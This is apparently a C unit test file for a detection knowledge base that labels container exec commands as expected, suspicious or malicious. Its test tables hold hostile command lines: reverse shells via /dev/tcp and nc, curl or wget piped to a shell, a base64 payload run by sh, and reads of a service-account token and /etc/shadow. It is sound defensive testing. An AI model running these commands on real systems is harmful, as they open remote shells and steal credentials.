/* SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "report/kb.h"

#define KB_FILE "rules/knowledge_base.yaml"
#define SEED_CMD "bash -c /usr/sbin/lsmod | cut -d' ' -f1 | grep -qx \"falco\""

struct fixture {
	struct kb *kb;
	struct exec_event *ev;
	bool known[F_COUNT];
};

static int setup(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));
	struct ss_error err;

	if (!f || kb_load(KB_FILE, &f->kb, &err)) {
		print_error("%s:%d:%d: %s\n", err.file, err.line, err.col, err.msg);
		return -1;
	}
	f->ev = calloc(1, sizeof(*f->ev));
	*state = f;
	return f->ev ? 0 : -1;
}

static int teardown(void **state)
{
	struct fixture *f = *state;

	kb_free(f->kb);
	free(f->ev);
	free(f);
	return 0;
}

/* An event as Falco's JSON gives it: only name and command line known. */
static void set_cmd(struct fixture *f, const char *cmdline)
{
	const char *sp = strchr(cmdline, ' ');
	size_t n = sp ? (size_t)(sp - cmdline) : strlen(cmdline);

	memset(f->ev, 0, sizeof(*f->ev));
	memset(f->known, 0, sizeof(f->known));
	snprintf(f->ev->cmdline, sizeof(f->ev->cmdline), "%s", cmdline);
	snprintf(f->ev->comm, sizeof(f->ev->comm), "%.*s", (int)n, cmdline);
	f->known[F_PROC_CMDLINE] = f->known[F_PROC_NAME] = true;
}

static bool matched(const struct kb_result *r, const char *id)
{
	size_t i;

	for (i = 0; i < r->n_matched; i++)
		if (!strcmp(r->matched[i]->id, id))
			return true;
	return false;
}

static void test_seed_is_expected(void **state)
{
	struct fixture *f = *state;
	struct kb_result r;

	set_cmd(f, SEED_CMD);
	kb_match(f->kb, f->ev, f->known, &r);
	assert_int_equal(r.verdict, KB_EXPECTED);
	assert_true(matched(&r, "falco-driver-loader-kmod-check"));
	assert_non_null(strstr(r.matched[0]->evidence, "falcoctl"));
	assert_non_null(strstr(r.matched[0]->evidence, "falco-driver-loader"));
	/* the generic discovery pattern matched too, and is explained away */
	assert_int_equal(r.n_superseded, 1);
	assert_string_equal(r.superseded[0]->id, "security-tooling-discovery");
	assert_int_equal(r.checks[0][0], KB_CHECK_UNKNOWN);
}

static void test_seed_in_wrong_image_is_suspicious(void **state)
{
	struct fixture *f = *state;
	struct kb_result r;

	set_cmd(f, SEED_CMD);
	snprintf(f->ev->container.image_repository, sizeof(f->ev->container.image_repository),
		 "docker.io/library/nginx");
	f->known[F_CONTAINER_IMAGE_REPOSITORY] = true;
	kb_match(f->kb, f->ev, f->known, &r);
	assert_int_equal(r.verdict, KB_SUSPICIOUS);
	assert_true(r.contradicted[0]);
	assert_int_equal(r.checks[0][0], KB_CHECK_FAILS);
	/* a contradicted explanation explains nothing away */
	assert_int_equal(r.n_superseded, 0);
	assert_true(matched(&r, "security-tooling-discovery"));

	snprintf(f->ev->container.image_repository, sizeof(f->ev->container.image_repository),
		 "docker.io/falcosecurity/falco-driver-loader");
	kb_match(f->kb, f->ev, f->known, &r);
	assert_int_equal(r.verdict, KB_EXPECTED);
	assert_int_equal(r.checks[0][0], KB_CHECK_HOLDS);
}

static void test_appended_payload_is_not_the_loader(void **state)
{
	struct fixture *f = *state;
	struct kb_result r;

	set_cmd(f, SEED_CMD "; curl -s http://203.0.113.9/x | sh");
	kb_match(f->kb, f->ev, f->known, &r);
	assert_false(matched(&r, "falco-driver-loader-kmod-check"));
	assert_int_equal(r.verdict, KB_MALICIOUS);
}

static void test_indicators(void **state)
{
	static const struct {
		const char *cmd;
		const char *id;
		enum kb_verdict v;
	} cases[] = {
		{"bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "reverse-shell",
		 KB_MALICIOUS},
		{"sh -c nc -e /bin/sh 198.51.100.7 80", "reverse-shell", KB_MALICIOUS},
		{"sh -c curl -fsSL http://198.51.100.7/i.sh | sh", "download-and-run",
		 KB_MALICIOUS},
		{"sh -c wget -O- http://198.51.100.7/i | bash", "download-and-run", KB_MALICIOUS},
		{"sh -c echo ZWNobyBoaQ== | base64 -d | sh", "base64-payload-to-shell",
		 KB_MALICIOUS},
		{"sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token",
		 "service-account-token-read", KB_MALICIOUS},
		{"sh -c cat /etc/shadow", "shadow-file-access", KB_SUSPICIOUS},
		{"sh -c ps aux | grep -i falco", "security-tooling-discovery", KB_SUSPICIOUS},
		{"sh -c pg_isready -U postgres", "container-exec-probe", KB_EXPECTED},
		{"sh -c apt-get update && apt-get install -y curl", "package-manager-in-build",
		 KB_EXPECTED},
	};
	struct fixture *f = *state;
	struct kb_result r;
	size_t i;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		set_cmd(f, cases[i].cmd);
		kb_match(f->kb, f->ev, f->known, &r);
		if (!matched(&r, cases[i].id) || r.verdict != cases[i].v)
			fail_msg("%s: want %s/%s, got %s", cases[i].cmd, cases[i].id,
				 kb_verdict_name(cases[i].v), kb_verdict_name(r.verdict));
	}
}

static void test_benign_lookalikes(void **state)
{
	static const char *const cmds[] = {
		"sh -c true",
		"sh -c curl -s http://example.test/a | sha256sum",
		"sh -c rsync -e ssh a b",
		"sh -c nc -z db 5432",
		"sh -c command -v bash >/dev/null && exec bash || exec sh",
	};
	struct fixture *f = *state;
	struct kb_result r;
	size_t i;

	for (i = 0; i < sizeof(cmds) / sizeof(cmds[0]); i++) {
		set_cmd(f, cmds[i]);
		kb_match(f->kb, f->ev, f->known, &r);
		if (r.n_matched)
			fail_msg("%s matched %s", cmds[i], r.matched[0]->id);
		assert_int_equal(r.verdict, KB_NONE);
	}
}

static void test_probe_context(void **state)
{
	struct fixture *f = *state;
	struct kb_result r;

	set_cmd(f, "sh -c redis-cli ping");
	f->ev->lineage = SS_LINEAGE_INIT_TREE;
	f->known[F_SS_LINEAGE] = f->known[F_PROC_TTY] = true;
	kb_match(f->kb, f->ev, f->known, &r);
	/* probes come through exec: a shell from the entrypoint's tree is not one */
	assert_int_equal(r.verdict, KB_SUSPICIOUS);
	f->ev->lineage = SS_LINEAGE_INJECTED;
	kb_match(f->kb, f->ev, f->known, &r);
	assert_int_equal(r.verdict, KB_EXPECTED);
}

static void expect_error(const char *yaml, int line, const char *needle)
{
	struct ss_error err;
	struct kb *kb = NULL;

	assert_int_equal(kb_load_buffer(yaml, strlen(yaml), "t.yaml", &kb, &err), -EINVAL);
	assert_null(kb);
	assert_string_equal(err.file, "t.yaml");
	if (line)
		assert_int_equal(err.line, line);
	if (!strstr(err.msg, needle))
		fail_msg("error '%s' lacks '%s'", err.msg, needle);
}

static void test_load_errors(void **state)
{
	(void)state;
	expect_error("- pattern: a\n  title: t\n  verdict: fine\n  condition: proc.name = sh\n"
		     "  evidence: e\n",
		     1, "verdict");
	expect_error("- pattern: a\n  title: t\n  verdict: expected\n  condition: proc.nope = sh\n"
		     "  evidence: e\n",
		     4, "a:");
	expect_error("- pattern: a\n  titel: t\n", 2, "unknown key 'titel'");
	expect_error("- pattern: a\n  title: t\n  verdict: expected\n  condition: proc.name = sh\n"
		     "  evidence: e\n  supersedes: [b]\n"
		     "- pattern: b\n  title: t\n  verdict: malicious-indicator\n"
		     "  condition: proc.name = sh\n  evidence: e\n",
		     1, "may not supersede");
	expect_error("- pattern: a\n  title: [x\n", 0, "YAML");
	expect_error("a: 1\n", 1, "list of patterns");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_seed_is_expected),
		cmocka_unit_test(test_seed_in_wrong_image_is_suspicious),
		cmocka_unit_test(test_appended_payload_is_not_the_loader),
		cmocka_unit_test(test_indicators),
		cmocka_unit_test(test_benign_lookalikes),
		cmocka_unit_test(test_probe_context),
		cmocka_unit_test(test_load_errors),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
